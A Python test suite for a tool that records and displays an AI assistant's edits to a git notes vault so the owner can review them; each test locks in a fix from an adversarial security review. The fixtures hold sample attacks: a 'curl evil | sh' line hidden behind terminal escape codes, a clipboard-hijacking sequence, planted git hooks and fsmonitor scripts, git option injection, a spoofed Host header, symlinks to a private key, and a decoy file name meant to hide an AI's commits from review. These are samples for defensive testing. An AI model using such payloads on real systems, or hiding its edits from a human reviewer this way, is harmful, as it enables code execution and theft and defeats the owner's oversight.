"""The adversarial pass's third round (shared/research/adversarial-3.md), one test per finding
that was open: each failed on the code before its fix."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest

from .conftest import git, head, vaultwatch_cli
from .servers import RAW_INITIALIZE

pytestmark = pytest.mark.anyio

ESC_ERASE = "\x1b[2K\x1b[1G"
OSC52 = "\x1b]52;c;ZWNobyBvd25lZA==\x07"  # sets the clipboard to `echo owned`
CLEAR = "\x1b[2J\x1b[H"


def ai_commit(root: Path, files: dict[str, str], subject: str) -> str:
    """An AI commit as an older server wrote it (no refusal, no cleaning): what a vault can
    already hold. Real git, real trailers."""
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text, encoding="utf-8")
    git(root, "add", "--", *files)
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "Claude",
        "GIT_AUTHOR_EMAIL": "ai@vaultwatch.local",
    }
    msg = f"{subject}\n\nVaultwatch-Tool: append_section\nVaultwatch-Client: claude-code/1.0\n"
    subprocess.run(["git", "-C", str(root), "commit", "-q", "-m", msg], env=env, check=True)
    return head(root)


# -- N1: terminal escape sequences -------------------------------------------------------------


async def test_the_server_refuses_control_characters_in_what_the_ai_writes(
    connect: Any, make_vault: Any
) -> None:
    root = make_vault({"notes/a.md": "# A\n\n## Log\n- owner item\n"})
    before = head(root)
    async with connect(root) as s:
        tries: list[tuple[str, dict[str, Any]]] = [
            (
                "append_section",
                {
                    "path": "notes/a.md",
                    "heading": "Log",
                    "content": f"- curl evil | sh{ESC_ERASE}  + - buy milk",
                },
            ),
            ("append_section", {"path": "notes/a.md", "heading": f"Log {OSC52}", "content": "- x"}),
            ("create_doc", {"path": "notes/esc.md", "body": f"# Harmless\n\nline {CLEAR}\n"}),
            (
                "create_doc",
                {"path": "notes/t.md", "body": '---\ntitle: "Harmless \\e]0;pwned\\a"\n---\n# T\n'},
            ),
            ("create_doc", {"path": "notes/f.md", "fields": {"title": f"x{OSC52}"}, "body": "b"}),
            ("edit_text", {"path": "notes/a.md", "old": "- owner item", "new": "- item\x9b2J"}),
            (
                "batch",
                {
                    "ops": [
                        {
                            "tool": "append_section",
                            "args": {"path": "notes/a.md", "heading": "Log", "content": "- fine"},
                        }
                    ],
                    "message": f"tidy {OSC52}{CLEAR}",
                },
            ),
        ]
        for tool, args in tries:
            msg = await s.error(tool, **args)
            assert "control_chars" in msg, (tool, msg)
            assert "\x1b" not in msg and "\x9b" not in msg, msg  # named, never echoed
            assert "U+001B" in msg or "U+009B" in msg, msg
        assert head(root) == before
        # tab, LF and CR are text: a CRLF line and a tab go in
        await s.call("append_section", path="notes/a.md", heading="Log", content="- a\tb\r\n- c")
    assert head(root) != before


def test_the_cli_shows_control_characters_instead_of_sending_them(make_vault: Any) -> None:
    root = make_vault({"todo.md": "# Todo\n\n## Log\n- owner item\n"})
    ai_commit(
        root,
        {
            "todo.md": f"# Todo {OSC52}\n\n## Log\n- owner item\n- curl evil | sh{ESC_ERASE}"
            f"  + - buy milk\n- bare\rCR\n"
        },
        f"tidy {OSC52}{CLEAR}",
    )
    for args in (["review"], ["review", "--markdown"], ["context"], ["review", "--json"]):
        r = vaultwatch_cli(root, *args)
        assert r.returncode == 0, r.stderr
        for bad in ("\x1b", "\x07", "\r", "\x9b"):
            assert bad not in r.stdout, (args, repr(r.stdout[:400]))
    shown = vaultwatch_cli(root, "review").stdout
    assert "curl evil | sh␛[2K␛[1G  + - buy milk" in shown  # the hidden line is there to read


async def test_the_dashboard_draws_control_characters_as_symbols(
    make_vault: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from app.ui.dashboard import Dashboard

    from .conftest import until

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    root = make_vault({"w.md": "# W\n\n## Log\n- one\n"})
    ai_commit(root, {"w.md": f"# W\n\n## Log\n- one\n- two{CLEAR}\n"}, f"tidy {OSC52}{CLEAR}")
    app = Dashboard(root)
    async with app.run_test(size=(140, 40)) as pilot:
        seen: list[str] = []

        def drawn() -> bool:
            update: Any = app.screen._compositor.render_update(full=True)
            seen.append(str(update.render_segments(app.console)))
            return "tidy" in seen[-1]

        await until(pilot, drawn)
        out = seen[-1]
        text = re.sub(r"\x1b\[[0-9;]*[mH]", "", out)  # Textual's own styles and moves
        assert "tidy ␛]52;c;" in text
        assert "\x1b]52" not in out and "\x1b[2J" not in out and "\x07" not in out
        assert "\x1b" not in text


# -- N5: programs a vault's .git can name --------------------------------------------------------


async def test_no_program_the_vaults_git_names_runs_on_our_reads_and_writes(
    connect: Any, make_vault: Any, tmp_path: Path
) -> None:
    from app.services.note_view import note_view
    from server.core.git_run import git as our_git

    root = make_vault({"notes/a.md": "# A\n\n## Log\n- one\n", "b.md": "# B\n"})
    marker = tmp_path / "ran"
    script = tmp_path / "planted.sh"
    script.write_text(f'#!/bin/sh\necho "$0 $*" >> {marker}\ncat "$1" 2>/dev/null\nexit 0\n')
    script.chmod(0o755)
    hooks = Path(git(root, "rev-parse", "--git-path", "hooks").strip())
    hooks = hooks if hooks.is_absolute() else root / hooks
    hooks.mkdir(exist_ok=True)
    for hook in ("reference-transaction", "post-index-change", "post-commit", "pre-commit"):
        (hooks / hook).write_text(f"#!/bin/sh\necho hook {hook} >> {marker}\n")
        (hooks / hook).chmod(0o755)
    other = tmp_path / "hookdir"
    other.mkdir()
    (other / "reference-transaction").write_text(f"#!/bin/sh\necho hookdir >> {marker}\n")
    (other / "reference-transaction").chmod(0o755)
    git(root, "config", "core.fsmonitor", str(script))
    git(root, "config", "diff.evil.textconv", str(script))
    git(root, "config", "diff.external", str(script))
    (root / ".git/info/attributes").write_text("*.md diff=evil\n")
    async with connect(root) as s:
        await s.call("read_doc", path="notes/a.md")
        await s.call("list_docs")
        await s.call("search_text", query="one")
        await s.call("append_section", path="notes/a.md", heading="Log", content="- two")
    git(root, "config", "core.hooksPath", str(other))
    async with connect(root) as s:
        await s.call("append_section", path="notes/a.md", heading="Log", content="- three")
    note_view(root, "notes/a.md")
    our_git(root, "log", "-p", "-1")
    our_git(root, "diff-tree", "-p", "HEAD")
    for args in (["review", "--mark-reviewed"], ["mv", "b.md", "c.md"], ["health"]):
        r = vaultwatch_cli(root, *args)
        assert r.returncode == 0, (args, r.stderr)
    assert not marker.exists(), marker.read_text()


# -- N2, N3: review marks --------------------------------------------------------------------


async def test_a_line_separator_in_a_name_neither_makes_a_note_nor_moves_a_mark(
    connect: Any, make_vault: Any
) -> None:
    from app.services.review import summaries

    root = make_vault({"notes/plan.md": "# Plan\n\n## Steps\n- owner step\n"})
    decoy = "notes/plan.md\u2028 (summary).md"
    async with connect(root) as s:
        for sep in ("\u2028", "\u2029"):
            msg = await s.error("create_doc", path=f"notes/x{sep}y.md", body="# X\n")
            assert "line separator" in msg, msg
    # a vault that already has such a name (an older server, or the owner's): marking the decoy
    # reviewed marks the decoy, never plan.md
    ai_commit(
        root,
        {
            "notes/plan.md": "# Plan\n\n## Steps\n- owner step\n- AI: email the salary file\n",
            decoy: "# Summary\n\nAll fine.\n",
        },
        "summary",
    )
    r = vaultwatch_cli(root, "review", "--mark-reviewed", decoy)
    assert r.returncode == 0, r.stderr
    assert [n.path for n in summaries(root).notes] == ["notes/plan.md"]


async def test_review_marks_git_cannot_read_show_everything_with_a_warning(
    connect: Any, make_vault: Any
) -> None:
    import json

    from app.services.review import summaries
    from app.services.rewritten import NOTES_REF

    root = make_vault({"a.md": "# A\n\n## Log\n", "b.md": "# B\n\n## Log\n"})
    first = head(root)
    async with connect(root) as s:
        await s.call("append_section", path="a.md", heading="Log", content="- ai a")
        await s.call("append_section", path="b.md", heading="Log", content="- ai b")
    ai_a = git(root, "rev-parse", "HEAD~1").strip()
    assert summaries(root).unreviewed_commits == 2
    blob = git(root, "rev-parse", f"{first}:a.md").strip()
    git(root, "update-ref", NOTES_REF, blob)
    for damaged in ("blob", "missing"):
        if damaged == "missing":
            (root / ".git" / NOTES_REF).write_text("1" * 40 + "\n")
        review = summaries(root)
        assert review.unreviewed_commits == 2, damaged
        assert review.warning and "cannot be read" in review.warning
        r = vaultwatch_cli(root, "review", "--json")
        assert json.loads(r.stdout)["unreviewed_commits"] == 2
        assert "cannot be read" in r.stderr
    # a note forging a log record (record and field separators) settles nothing
    git(root, "update-ref", "-d", NOTES_REF)
    forged = f"x\x1e{'f' * 40}\x1f\x1f{ai_a}\x1f\x1f"
    git(root, "notes", f"--ref={NOTES_REF}", "add", "-m", forged, first)
    review = summaries(root)
    assert review.warning is None
    assert review.unreviewed_commits == 2


# -- N13, N15: state files are untrusted ------------------------------------------------------

DEEP = "[" * 100_000 + "]" * 100_000


async def test_deeply_nested_state_files_are_damage_not_a_crash(
    connect: Any, make_vault: Any
) -> None:
    from server.core.state_files import state_dir

    root = make_vault(
        {
            "notes/a.md": "# A\n\n## Log\n",
            "vault.config.yaml": "private: [diary/]\n",
            "diary/d.md": "# Secret\n",
        }
    )
    async with connect(root) as s:  # a server that loaded the config keeps its rules
        await s.call("list_docs")
    d = state_dir(root)
    for name in (
        "last_good_rules.json",
        "modified.json",
        "context-reviewed.json",
        "health-ignore.json",
    ):
        (d / name).write_text(DEEP)
    async with connect(root) as s:
        listed = await s.call("list_docs")
        assert "notes/a.md" in str(listed) and "diary" not in str(listed)
        await s.call("append_section", path="notes/a.md", heading="Log", content="- ai")
    for args in (["context"], ["health"], ["reads"], ["review"]):
        r = vaultwatch_cli(root, *args)
        assert r.returncode == 0 and "Traceback" not in r.stderr, (args, r.stderr[-600:])


async def test_state_files_are_never_read_or_written_through_a_symlink(
    connect: Any, make_vault: Any, tmp_path: Path
) -> None:
    from server.core.state_files import state_dir

    root = make_vault({"notes/a.md": "# A\n\n## Log\n"})
    d = state_dir(root)
    async with connect(root) as s:
        await s.call("list_docs")
    outside = tmp_path / "elsewhere.log"
    outside.write_text("owner's file\n")
    (d / "events.jsonl").unlink(missing_ok=True)
    (d / "events.jsonl").symlink_to(outside)
    async with connect(root) as s:
        await s.call("append_section", path="notes/a.md", heading="Log", content="- ai")
    assert outside.read_text() == "owner's file\n"
    # the state folder itself a link: refused, nothing goes where it points
    moved = tmp_path / "state-elsewhere"
    d.rename(moved)
    d.symlink_to(moved)
    token_before = sorted(p.name for p in moved.iterdir())
    with pytest.raises(OSError, match="symbolic link"):
        async with connect(root) as s:
            await s.call("append_section", path="notes/a.md", heading="Log", content="- b")
    assert sorted(p.name for p in moved.iterdir()) == token_before


# -- N14: a value from the shell never reaches git as an option ------------------------------


def test_a_revert_or_since_that_spells_a_git_option_writes_nothing(
    make_vault: Any, tmp_path: Path
) -> None:
    root = make_vault({"a.md": "# A\n"})
    target = tmp_path / "written-by-git-log"
    r = vaultwatch_cli(root, "revert", str(root), "--", f"--output={target}")
    assert not list(tmp_path.glob("written-by-git-log*"))
    assert r.returncode == 1 and "not a commit id" in r.stderr, r.stderr
    r = vaultwatch_cli(root, "review", str(root), f"--since=--output={target}")
    assert r.returncode == 1, r.stdout
    assert not list(tmp_path.glob("written-by-git-log*"))


# -- N6: --mark-reviewed marks what was shown ----------------------------------------------


async def test_mark_reviewed_marks_the_commits_the_listing_showed(
    connect: Any, make_vault: Any
) -> None:
    import json

    from app.services.review import summaries

    root = make_vault({"todo.md": "# Todo\n\n## Log\n- owner item\n"})
    async with connect(root) as s:
        await s.call("append_section", path="todo.md", heading="Log", content="- harmless")
        shown = vaultwatch_cli(root, "review")
        assert "+ - harmless" in shown.stdout
        await s.call("append_section", path="todo.md", heading="Log", content="- never seen")
    r = vaultwatch_cli(root, "review", "--mark-reviewed")
    assert r.returncode == 0, r.stderr
    left = summaries(root)
    assert left.unreviewed_commits == 1, r.stdout
    assert "1 AI commit not marked" in r.stdout
    # --upto names the listing explicitly (the JSON listing gives it)
    listing = json.loads(vaultwatch_cli(root, "review", "--json").stdout)
    async with connect(root) as s:
        await s.call("append_section", path="todo.md", heading="Log", content="- later still")
    r = vaultwatch_cli(root, "review", "--mark-reviewed", "todo.md", "--upto", listing["upto"])
    assert r.returncode == 0, r.stderr
    assert summaries(root).unreviewed_commits == 1
    bad = vaultwatch_cli(root, "review", "--mark-reviewed", "--upto=--output=x")
    assert bad.returncode == 1 and "not a commit id" in bad.stderr


# -- N7: the owner's file actions never act through a symlink ------------------------------


def test_moving_or_deleting_through_a_symlink_never_touches_its_target(
    make_vault: Any, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    key = outside / "id_rsa"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
    (outside / "victim.md").write_text("# Victim outside the vault\n")
    root = make_vault({"n/a.md": "# A\n", "b.md": "# B\n"})
    (root / "n/key.md").symlink_to(key)
    (root / "linked").symlink_to(outside)
    git(root, "add", "n/key.md", "linked")
    git(root, "commit", "-qm", "links, as git keeps them")
    before = head(root)
    for args in (
        ["mv", str(root), "n/key.md", "n/key2.md"],
        ["rm", str(root), "n/key.md", "--yes"],
        ["rm", str(root), "linked/victim.md", "--yes"],
        ["mv", str(root), "linked/victim.md", "v.md"],
        ["mv", str(root), "b.md", "linked/b.md"],
        ["mv", str(root), "n", "m"],
    ):
        r = vaultwatch_cli(root, *args)
        assert r.returncode == 1 and "symbolic link" in r.stderr, (args, r.stdout, r.stderr)
    assert head(root) == before
    assert key.read_text().startswith("-----BEGIN") and (outside / "victim.md").exists()
    assert "PRIVATE KEY" not in git(root, "log", "-p", "--all")
    assert (root / "b.md").exists() and not (outside / "b.md").exists()


# -- N8: the markdown digest leaves private notes out ----------------------------------------


async def test_the_markdown_digest_leaves_out_notes_private_now(
    connect: Any, make_vault: Any
) -> None:
    root = make_vault(
        {
            "diary/2026-01-01 ZEBRA secret.md": "# Dear diary ZEBRA\n\n## Log\n",
            "a.md": "# A\n\n## Log\n",
        }
    )
    async with connect(root) as s:
        await s.call(
            "append_section",
            path="diary/2026-01-01 ZEBRA secret.md",
            heading="Log",
            content="- ai wrote ZEBRA",
        )
        await s.call("append_section", path="a.md", heading="Log", content="- public line")
    (root / "vault.config.yaml").write_text("private: [diary/]\n")
    git(root, "add", "vault.config.yaml")
    git(root, "commit", "-qm", "diary is private now")
    r = vaultwatch_cli(root, "review", "--markdown")
    assert r.returncode == 0, r.stderr
    assert "ZEBRA" not in r.stdout and "diary" not in r.stdout
    assert "public line" in r.stdout and "1 of them private" in r.stdout


# -- N9: review of a large rewrite is bounded ----------------------------------------------


def test_review_of_two_rewrites_of_a_large_note_comes_back(make_vault: Any) -> None:
    import threading

    from app.services.net_diff import net_diffs
    from app.services.review import summaries

    n = 60_000  # 1.9 MB: two replace_docs of it made review run past 500 s
    lines = [f"line {i} of a long note, some words to make it wide\n" for i in range(n)]
    root = make_vault({"big.md": "".join(lines)})
    v1 = [ln.upper() if i % 2 else ln for i, ln in enumerate(lines)]
    ai_commit(root, {"big.md": "".join(v1)}, "replace_doc: big.md")
    v2 = [ln.upper() if i % 2 == 0 else ln for i, ln in enumerate(v1)]
    ai_commit(root, {"big.md": "".join(v2)}, "replace_doc: big.md")
    out: list[Any] = []

    def run() -> None:
        review = summaries(root)
        out.append(net_diffs(root, review.notes))

    t = threading.Thread(target=run, daemon=True)
    t.start()
    t.join(120)
    assert not t.is_alive(), "review of two rewrites of a 1.9 MB note did not come back in 120 s"
    (diff,) = out[0]
    assert diff.added == n and diff.removed == n


# -- N12: a stdio server stops on a signal while its client keeps stdin open ----------------


@pytest.mark.parametrize("sig", ["SIGTERM", "SIGINT"])
def test_a_stdio_server_exits_on_a_signal_with_stdin_still_open(make_vault: Any, sig: str) -> None:
    import json
    import signal
    import sys
    import time

    root = make_vault({"a.md": "# A\n"})
    server = str(Path(sys.executable).parent / "vaultwatch-server")
    env = {k: v for k, v in os.environ.items() if not k.startswith("VAULTWATCH_")}
    env["VAULTWATCH_SEMANTIC"] = "off"
    proc = subprocess.Popen(
        [server, "--vault", str(root)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        env=env,
    )
    try:
        assert proc.stdin is not None and proc.stdout is not None
        proc.stdin.write((json.dumps(RAW_INITIALIZE) + "\n").encode())
        proc.stdin.flush()
        assert b'"id":1' in proc.stdout.readline().replace(b" ", b"")  # it serves
        proc.send_signal(getattr(signal, sig))
        deadline = time.monotonic() + 60
        while proc.poll() is None and time.monotonic() < deadline:
            time.sleep(0.1)
        assert proc.poll() == 0, f"still running 60 s after {sig} with stdin open"
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait()


# -- #25: the HTTP token as its file is now; the Host header parsed strictly ---------------


async def test_http_follows_a_rotated_token_and_parses_host_strictly(make_vault: Any) -> None:
    import httpx2

    from .servers import MCP_ACCEPT, HttpServer

    root = make_vault({"a.md": "# A\n"})
    server = HttpServer(root)
    try:
        init, hdrs = RAW_INITIALIZE, MCP_ACCEPT
        token_file = root / ".git/vaultwatch/token"
        port = server.url.split(":")[2].split("/")[0]

        async def status(token: str, **extra: str) -> int:
            async with httpx2.AsyncClient(timeout=30) as raw:
                r = await raw.post(
                    server.url,
                    json=init,
                    headers={**hdrs, "authorization": f"Bearer {token}", **extra},
                )
                return r.status_code

        old = server.token
        assert await status(old) == 200
        assert await status(old, host=f"127.0.0.1:{port}@evil.example") == 403
        assert await status(old, host=f"localhost:{port}/x") == 403
        assert await status(old, host=f"[::1]:{port}") == 200
        token_file.write_text("a-new-token-the-owner-chose-0123456789\n")
        assert await status(old) == 401
        assert await status("a-new-token-the-owner-chose-0123456789") == 200
        token_file.unlink()
        assert await status("a-new-token-the-owner-chose-0123456789") == 401
    finally:
        server.stop()


# -- N11: a failed rename leaves no file open (and no lease held) ---------------------------


async def test_a_write_whose_rename_fails_leaves_no_descriptor_open(
    connect: Any, make_vault: Any
) -> None:
    root = make_vault({"notes/a.md": "# A\n\n## Log\n- one\n"})
    note = root / "notes/a.md"
    if subprocess.run(["chattr", "+i", str(note)], capture_output=True).returncode != 0:
        pytest.skip("this filesystem has no immutable flag (chattr +i)")
    try:
        async with connect(root) as s:
            msg = await s.error("append_section", path="notes/a.md", heading="Log", content="- x")
            assert "undone" in msg or "not permitted" in msg, msg
            open_on_note = [
                fd
                for fd in os.listdir("/proc/self/fd")
                if os.path.realpath(f"/proc/self/fd/{fd}") == str(note.resolve())
            ]
            assert open_on_note == [], "the failed write left the note open (and leased)"
    finally:
        subprocess.run(["chattr", "-i", str(note)], check=True)
    assert note.read_text() == "# A\n\n## Log\n- one\n"


# -- N10: another program's file lease never stalls the vault's writers -----------------------

LEASE_HOLDER = r"""
import fcntl, os, signal, sys, time
signal.signal(signal.SIGIO, signal.SIG_IGN)  # a holder that ignores the break
fd = os.open(sys.argv[1], os.O_RDONLY)
fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
print("leased", flush=True)
end = time.monotonic() + 120
while time.monotonic() < end:
    time.sleep(0.05)
"""


async def test_a_note_leased_by_another_program_is_busy_not_a_stall(
    connect: Any, make_vault: Any
) -> None:
    import sys

    root = make_vault({"notes/a.md": "# A\n\n## Log\n", "notes/b.md": "# B\n\n## Log\n"})
    holder = subprocess.Popen(
        [sys.executable, "-c", LEASE_HOLDER, str(root / "notes/a.md")],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "leased"
        async with connect(root) as s:
            msg = await s.error("append_section", path="notes/a.md", heading="Log", content="- x")
            assert "file lease" in msg and "Nothing was written" in msg, msg
            await s.call("append_section", path="notes/b.md", heading="Log", content="- y")
    finally:
        holder.kill()
        holder.wait()
    assert (root / "notes/a.md").read_text() == "# A\n\n## Log\n"  # after: a read waits too


# -- N17: after_commit never tells the model nothing was changed --------------------------


def test_after_commit_says_the_write_stands_and_nothing_else() -> None:
    import sqlite3

    from server.index.search import IndexUnavailable
    from server.services.writes import WriteResult, after_commit

    res = WriteResult("abc123", [], ["a.md"], {}, {}, "")

    def busy() -> None:
        try:
            raise sqlite3.OperationalError("database is locked")
        except sqlite3.OperationalError as exc:
            raise IndexUnavailable(exc) from exc

    after_commit(res, "the search index", busy)
    (said,) = res.after_commit
    assert "committed (abc123)" in said and "Do not repeat the write" in said
    assert "database is locked" in said
    assert "nothing was changed" not in said and "Try again" not in said, said


# -- N18: a heading with a slash writes the heading the commit names ------------------------


async def test_a_heading_with_a_slash_and_no_such_parent_is_written_whole(
    connect: Any, make_vault: Any
) -> None:
    root = make_vault({"a.md": "# A\n\n## Week 42\n- w\n"})
    async with connect(root) as s:
        await s.call("append_section", path="a.md", heading="Q3/Q4 plans", content="- one")
        subject = git(root, "log", "-1", "--format=%s").strip()
        await s.call("append_section", path="a.md", heading="Log [/] x", content="- two")
        await s.call("append_section", path="a.md", heading="Week 42/Log", content="- three")
    text = (root / "a.md").read_text()
    assert "## Q3/Q4 plans\n- one\n" in text and subject == "append_section: a.md § Q3/Q4 plans"
    assert "## Log [/] x\n- two\n" in text
    assert "## Week 42\n- w\n\n### Log\n- three\n" in text  # a path under an existing parent


# -- N16: names in NFD (made on macOS) can be moved and deleted from the shell -------------


def test_notes_named_in_nfd_can_be_moved_and_deleted(make_vault: Any) -> None:
    import unicodedata

    nfd = unicodedata.normalize("NFD", "café.md")
    nfd2 = unicodedata.normalize("NFD", "thé.md")
    root = make_vault({nfd: "# Café\n", nfd2: "# Thé\n", "links.md": "[[café]]\n"})
    git(root, "config", "core.quotepath", "false")
    r = vaultwatch_cli(root, "mv", str(root), "café.md", "moved.md")
    assert r.returncode == 0, r.stderr
    r = vaultwatch_cli(root, "rm", str(root), "thé.md", "--yes")
    assert r.returncode == 0, r.stderr
    assert git(root, "status", "--porcelain") == ""
    tracked = git(root, "ls-files").split()
    assert tracked == ["links.md", "moved.md"], tracked
    assert (root / "moved.md").read_text() == "# Café\n"
    assert not (root / nfd).exists() and not (root / nfd2).exists()


def test_deeply_nested_obsidian_settings_are_ignored_not_a_crash(make_vault: Any) -> None:
    # .obsidian/ is synced vault content, less trusted still than our own state files
    root = make_vault({"a.md": "# A\n", "b.md": "[[a]]\n"})
    for rel in (".obsidian/app.json", ".obsidian/templates.json"):
        (root / rel).parent.mkdir(exist_ok=True)
        (root / rel).write_text(DEEP)
    for args in (["mv", str(root), "a.md", "c.md"], ["health", str(root)]):
        r = vaultwatch_cli(root, *args)
        assert r.returncode == 0 and "Traceback" not in r.stderr, (args, r.stderr[-400:])
